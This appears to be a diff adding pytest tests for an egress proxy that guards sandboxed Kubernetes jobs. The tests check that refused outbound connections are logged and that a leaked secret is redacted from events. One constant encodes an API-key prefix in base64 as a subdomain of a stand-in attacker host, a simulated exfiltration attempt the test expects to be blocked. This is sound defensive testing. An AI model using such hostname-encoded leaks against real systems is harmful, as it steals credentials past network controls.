@@ -1,0 +1,102 @@
+"""What a Job's way out refuses stands in its record: the proxy's stand-in logs as the real one."""
+
+from __future__ import annotations
+
+import json
+import socket
+from collections.abc import AsyncIterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from functions.job_launcher.egress import UNKNOWN
+from tests.support import eventually
+from tests.support.cluster import Cluster
+from tests.support.egress_standin import COMPONENT
+from tests.support.job_world import World, job_world, run_python
+
+JOBS = "/apis/batch/v1/namespaces/agents/jobs"
+# There is no name of the Service on a laptop; the port says the list.
+ASK = """
+import os, socket
+from urllib.parse import urlsplit
+for host in ({hosts}):
+    with socket.create_connection(('127.0.0.1', urlsplit(os.environ['HTTPS_PROXY']).port)) as way:
+        way.sendall(f'CONNECT {{host}}:443 HTTP/1.1\\r\\n\\r\\n'.encode())
+        print(host, way.recv(100).decode().split()[1])
+"""
+LEAK = "c2stYW50LWFwaTAz.collector.evil.example"
+
+
+def free_port() -> int:
+    with socket.socket() as held:
+        held.bind(("127.0.0.1", 0))
+        port: int = held.getsockname()[1]
+        return port
+
+
+@pytest.fixture
+async def world(cluster: Cluster, functions_database: str, tmp_path: Path) -> AsyncIterator[World]:
+    port = free_port()
+    environ = {"EGRESS_PROXIES": f"code={port}"}
+    async with job_world(cluster, functions_database, tmp_path, environ=environ) as world:
+        await start_proxy(world, port)
+        yield world
+
+
+async def start_proxy(world: World, port: int) -> None:
+    container = {
+        "name": "squid",
+        "image": "ubuntu/squid",
+        "command": ["python", str(COMPONENT.parents[2] / "tests/support/egress_standin.py")],
+        "args": [f"code={port}"],
+    }
+    pod = {"restartPolicy": "Never", "containers": [container]}
+    labels = {"app.kubernetes.io/name": "egress-proxy"}
+    job = {
+        "metadata": {"name": "egress-proxy"},
+        "spec": {"template": {"metadata": {"labels": labels}, "spec": pod}},
+    }
+    assert (await world.api.post(JOBS, json=job)).status_code == 201
+
+    async def listens() -> bool:
+        with socket.socket() as tried:
+            return tried.connect_ex(("127.0.0.1", port)) == 0
+
+    await eventually(listens)
+
+
+def asks(*hosts: str, then: str = "", id: str = "e1", **data: Any) -> Any:
+    return run_python(ASK.format(hosts="".join(f"{host!r}, " for host in hosts)) + then, id, **data)
+
+
+async def test_what_was_refused_stands_in_the_record_and_the_event(world: World) -> None:
+    await world.tell(asks("api.anthropic.com", LEAK, LEAK, "pypi.org"))
+    await world.until("queued", "started", "succeeded")
+
+    [job] = await world.jobs()
+    assert "api.anthropic.com 200" in job["last_lines"]
+    assert "pypi.org 403" in job["last_lines"]
+    assert job["blocked"] == ["*.evil.example:443 (2 times)", "pypi.org:443"]
+    [succeeded] = world.emitted("succeeded")
+    assert succeeded["blocked"] == job["blocked"]
+    assert "c2stYW50" not in json.dumps(succeeded)
+
+
+async def test_it_stands_there_too_where_the_job_fails(world: World) -> None:
+    await world.tell(asks("evil.example", then="raise SystemExit(3)"))
+    await world.until("queued", "started", "failed")
+    [failed] = world.emitted("failed")
+    assert failed["blocked"] == ["evil.example:443"]
+
+
+async def test_a_log_that_cannot_be_read_is_not_taken_for_an_empty_one(
+    cluster: Cluster, functions_database: str, tmp_path: Path
+) -> None:
+    environ = {"EGRESS_PROXIES": f"code={free_port()}"}
+    async with job_world(cluster, functions_database, tmp_path, environ=environ) as world:
+        await world.tell(run_python("print('nothing asked')", "e1"))
+        await world.until("queued", "started", "succeeded")
+        [job] = await world.jobs()
+        assert job["blocked"] == [UNKNOWN]
